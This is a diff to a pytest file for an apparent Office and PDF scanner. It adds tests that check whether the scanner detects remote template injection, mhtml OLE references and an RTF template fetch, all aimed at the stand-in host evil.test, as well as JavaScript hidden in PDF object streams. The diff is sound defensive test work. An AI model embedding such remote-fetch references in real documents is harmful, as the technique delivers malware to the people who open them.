@@ -67,6 +67,32 @@ def test_parts_of_new_documents(name, data, macros_, encrypted):
     assert (seen.macros, seen.encrypted) == (macros_, encrypted)
 
 
+RELATION = '<Relationships><Relationship Id="rId1" Type="http://x/{}" Target="{}" TargetMode="{}"/></Relationships>'
+
+
+@pytest.mark.parametrize(
+    ("kind", "target", "mode", "fetches"),
+    [
+        ("attachedTemplate", "http://evil.test/a.dotm", "External", True),
+        ("attachedTemplate", "\\\\evil.test\\a.dotm", "External", True),
+        ("attachedTemplate", "file://evil.test/a.dotm", "External", True),
+        ("attachedTemplate", "file:///\\\\evil.test\\a.dotm", "External", True),
+        ("oleObject", "mhtml:http://evil.test/a!x-usc:http://evil.test/a", "external", True),
+        ("attachedTemplate", "file:///C:\\Templates\\a.dotx", "External", False),
+        ("attachedTemplate", "http://evil.test/a.dotm", "Internal", False),
+        ("hyperlink", "http://good.test/", "External", False),
+    ],
+)
+def test_what_a_document_loads_from_elsewhere(kind, target, mode, fetches):
+    data = memoryview(RELATION.format(kind, target, mode).encode())
+    assert office.look_at_part("word/_rels/settings.xml.rels", data).fetches is fetches
+
+
+def test_what_rtf_loads_from_elsewhere():
+    assert office.has_remote_template(memoryview(b"{\\rtf1{\\*\\template http://evil.test/a.dotm}}"))
+    assert not office.has_remote_template(memoryview(b"{\\rtf1{\\*\\template C:\\\\a.dotx}}"))
+
+
 def test_macros_of_excel_4_that_run_by_themselves():
     assert office.look_at_part("xl/workbook.xml", memoryview(b'<definedName name="_xlnm.Auto_Open">')).runs_itself
 
@@ -101,7 +127,11 @@ def look(data):
 
 
 def object_stream(content):
-    return b"1 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\r\n" + zlib.compress(content) + b"\r\nendstream"
+    return (
+        b"1 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\r\n"
+        + zlib.compress(b"1 0 " + content)
+        + b"\r\nendstream"
+    )
 
 
 @pytest.mark.parametrize(
@@ -128,7 +158,20 @@ def test_an_encrypted_pdf():
     )
 
 
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"1 0 obj <</N 1 /First 4 /Filter /FlateDecode>> stream\r" + zlib.compress(b"1 0 <</S /JavaScript>>"),
+        b"1 0 obj <</N 1/First 4>> stream\n1 0 <</S /JavaScript>>",
+    ],
+)
+def test_an_object_stream_that_does_not_say_what_it_is(data):
+    assert look(data).does == ("javascript",)
+    assert look(b"<</Type /Outlines /First 5 0 R /Last 7 0 R>> stream\nx") == pdf.Pdf()
+
+
 def test_what_could_not_be_unpacked_is_counted():
+    assert look(object_stream(b"").replace(zlib.compress(b"1 0 "), zlib.compress(zlib.compress(b"1 0 x")))).unread == 1
     assert look(b"%PDF-1.7 <</Type/ObjStm/Filter/LZWDecode>> stream\n????").unread == 1
     assert look(b"%PDF-1.7 <</Type/ObjStm " + b"%" * 9000 + b"\n>> stream\n").unread == 1
 
